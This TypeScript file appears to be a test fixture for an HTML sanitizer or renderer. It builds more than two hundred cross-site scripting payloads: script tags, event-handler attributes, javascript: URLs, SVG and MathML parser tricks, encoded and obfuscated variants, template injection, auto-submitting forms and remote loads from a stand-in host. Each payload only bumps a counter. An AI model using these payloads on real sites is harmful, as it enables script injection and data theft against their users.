/*
 * Texts that run a script, send a form or leave the page wherever one of them is taken for markup. Each does
 * the same when it runs, `ran`, and each leaves something in the page that no page of ours has.
 */

const ran = 'window.ran=(window.ran||0)+1';
const away = 'https://elsewhere.invalid/';

/** What runs, or leaves, by itself. */
const elements = [
  `<script>${ran}</script>`,
  `<script src="${away}x.js"></script>`,
  `<script type=module>${ran}</script>`,
  `<img src=x onerror="${ran}">`,
  `<img/src/onerror=${ran}>`,
  `<svg onload="${ran}"></svg>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s></svg>`,
  `<svg><a href="javascript:${ran}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${ran} /></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${ran}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ran}>`,
  `<math href="javascript:${ran}">x</math>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<iframe src="javascript:parent.${ran}"></iframe>`,
  `<iframe src="${away}"></iframe>`,
  `<object data="javascript:${ran}"></object>`,
  `<object data="${away}x"></object>`,
  `<embed src="javascript:${ran}">`,
  `<video src=x onerror="${ran}"></video>`,
  `<audio src=x onerror="${ran}"></audio>`,
  `<video><source onerror="${ran}"></video>`,
  `<input autofocus onfocus="${ran}">`,
  `<select autofocus onfocus="${ran}"></select>`,
  `<details open ontoggle="${ran}">x</details>`,
  `<marquee onstart="${ran}">x</marquee>`,
  `<body onload="${ran}">`,
  `<body onpageshow=${ran}>`,
  `<style>@import "${away}x.css";</style>`,
  `<style>*{background:url(${away}x)}</style>`,
  `<link rel=stylesheet href="${away}x.css">`,
  `<link rel=prefetch href="${away}x">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href="${away}">`,
  `<form id=f action="${away}"><button autofocus onfocus="f.submit()">x</button></form>`,
  `<form action="${away}"><input name=q value=1></form><script>document.forms[0].submit()</script>`,
  `<x-hole style="animation:a 1s" onanimationstart="${ran}"></x-hole><style>@keyframes a{}</style>`,
  `<div popover id=p onbeforetoggle=${ran}>x</div><button popovertarget=p>x</button>`,
  `<template shadowrootmode=open><script>${ran}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
];

/** What ends what a text may stand in: an attribute, a title, a comment, a style, code, TeX, backticks. */
const before = [
  '',
  '">',
  "'>",
  '</title></style></textarea></script>',
  '--></pre></code></text></svg>',
  '` $\\href{javascript:alert(1)}{x}$ ',
];

/** What does without an element of its own. */
const others = [
  `" onmouseover="${ran}" autofocus onfocus="${ran}" x="`,
  `' onmouseover='${ran}' autofocus onfocus='${ran}' x='`,
  `x onload=${ran} y=`,
  `javascript:${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `url(javascript:${ran})`,
  `red;background:url(${away}x)`,
  `&lt;img src=x onerror=${ran}&gt;`,
  `&#60;script&#62;${ran}&#60;/script&#62;`,
  `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
  `%3Cscript%3E${ran}%3C/script%3E`,
  `+ADw-script+AD4-${ran}+ADw-/script+AD4-`,
  `<scr\0ipt>${ran}</scr\0ipt>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<<script>${ran}//<</script>`,
  `＜script＞${ran}＜/script＞`,
  `\u202e<img src=x onerror=${ran}>\u202c`,
  `\u2028<img src=x onerror=${ran}>\u2029`,
  `<img src=x\tonerror\n=\r"${ran}">`,
  `<IMG SRC=x ONERROR="${ran}">`,
  `\${${ran}}{{constructor.constructor('${ran}')()}}`,
  `"];${ran};//'];${ran};//\`;${ran};//`,
  `datum.x"}],${ran},[{"`,
  `[x](javascript:${ran}) ![x](x"onerror="${ran})`,
  `\\href{javascript:${ran}}{x} \\htmlData{x=1}{y} \\includegraphics{${away}x}`,
  '__proto__',
  'constructor',
  'toString',
  '<!--',
  '<![CDATA[',
  '\u001b[2J\u001b]8;;javascript:1\u0007x',
  '<p',
  '</p></div></main></body></html>',
  '<plaintext>',
  '<textarea>',
  '<title>',
  '\ud800<b>\udfff',
];

/** Two hundred and more, each another one. */
export const payloads: readonly string[] = [
  ...before.flatMap((start) => elements.map((element) => `${start}${element}`)),
  ...others,
];

/** The payloads in few texts, so many in each. */
export const inTexts = (each: number): string[] =>
  Array.from({ length: Math.ceil(payloads.length / each) }, (_, i) =>
    payloads.slice(i * each, (i + 1) * each).join(' '),
  );
